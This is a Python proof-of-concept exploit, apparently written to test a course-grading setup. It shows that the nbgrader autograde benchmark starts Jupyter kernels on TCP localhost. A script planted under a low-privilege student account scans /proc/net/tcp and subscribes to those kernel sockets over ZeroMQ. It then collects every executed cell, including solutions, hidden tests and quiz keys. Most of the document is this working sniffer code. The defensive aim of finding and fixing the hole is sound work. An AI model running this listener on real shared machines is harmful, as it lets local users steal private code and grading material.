"""`make bench` (BENCH=autograde, also in the default `make bench`): tools.bench.autograde_seconds runs
`python -m nbgrader autograde <a> --ResilientExecute.unsandboxed=True` on OUR SOLUTION in a subprocess. Round 51
moved make lab / nbval / bench_notebooks kernels to IPC (private_kernels.install()), but this nbgrader subprocess
loads neither private_kernels nor the Jupyter server config: its kernel is started by nbclient with jupyter_client's
default transport, TCP on 127.0.0.1. A local student (st53u) polls /proc/net/tcp, subscribes to each new listener
of the TA's uid, and collects execute_input messages (every cell's code: the solutions, hidden tests, quiz keys)."""
import json, os, subprocess, sys, time
CLONE = (__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", "..")))
STUDENT = r'''
import zmq, time, json, os
ctx = zmq.Context(); poller = zmq.Poller(); subs = {}; codes = []; seen = set()
end = time.time() + float(os.environ.get("SECS", "150"))
while time.time() < end:
    for line in open("/proc/net/tcp").read().splitlines()[1:]:
        p = line.split()
        if p[3] == "0A" and int(p[7]) == 65534:
            port = int(p[1].split(":")[1], 16)
            if port not in seen:
                seen.add(port); s = ctx.socket(zmq.SUB); s.setsockopt(zmq.SUBSCRIBE, b""); s.connect(f"tcp://127.0.0.1:{port}")
                subs[s] = port; poller.register(s, zmq.POLLIN)
    for s, _ in poller.poll(20):
        frames = s.recv_multipart()
        try:
            i = frames.index(b"<IDS|MSG>"); hdr, content = json.loads(frames[i + 2]), json.loads(frames[i + 5])
        except Exception:
            continue
        if hdr["msg_type"] == "execute_input":
            codes.append(content["code"])
print("ports subscribed:", len(seen), "cells seen:", len(codes))
for c in codes:
    if "q1 =" in c or "def partition_layers" in c or "BEGIN HIDDEN" in c:
        print("----\n" + c[:500])
print("SUMMARY ports:", len(seen), "cells:", len(codes), "with 'def ' :", sum("def " in c for c in codes),
      "quiz lines:", [l for c in codes for l in c.splitlines() if l.strip().startswith(("q1", "q2", "q3", "q4", "q5"))][:10])
'''
# the checkout's solutions and keys private, as a careful TA leaves them (README: chmod -R go-rwx)
for sub in ("source", "autograders", "tests", ".git"):
    if os.path.exists(f"{CLONE}/{sub}"): os.chmod(f"{CLONE}/{sub}", 0o700)
direct = subprocess.run(["setpriv", "--reuid", "st53u", "--regid", "st53u", "--clear-groups", "cat", f"{CLONE}/source/ps1_memory/ps1_memory.ipynb"], capture_output=True, text=True)
print("student reads source/ directly:", direct.returncode, direct.stderr.strip()[:200])
open("/tmp/attack53-user-student1.py", "w").write(STUDENT); os.chmod("/tmp/attack53-user-student1.py", 0o644)
st = subprocess.Popen(["setpriv", "--reuid", "st53u", "--regid", "st53u", "--clear-groups", f"{CLONE}/.venv/bin/python", "/tmp/attack53-user-student1.py"],
                      cwd="/", env={"PATH": "/usr/bin:/bin", "SECS": os.environ.get("SECS", "90")}, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
time.sleep(3)
env = {"PATH": f"{CLONE}/.venv/bin:/usr/bin:/bin", "HOME": "/tmp/attack53-user-home", "LANG": "C.UTF-8",
       "DATABASE_URL": "postgresql://ta:secret@localhost/x", "AWS_SECRET_ACCESS_KEY": "AKIASECRETCANARY123"}
t = time.time()
r = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", f"{CLONE}/.venv/bin/python", "-c",
                    "import os; os.umask(0o077)\nfrom tools.bench import autograde_seconds\nprint('autograde_seconds', autograde_seconds('ps1_memory'))"],
                   cwd=CLONE, env=env, capture_output=True, text=True, timeout=400)
print(f"TA's bench autograde rc={r.returncode} in {time.time()-t:.0f}s: {r.stdout.strip()[-300:]} {r.stderr[-600:]}")
out, _ = st.communicate(timeout=200)
print("STUDENT (uid st53u) collected:\n" + out[-6000:])
os.unlink("/tmp/attack53-user-student1.py")
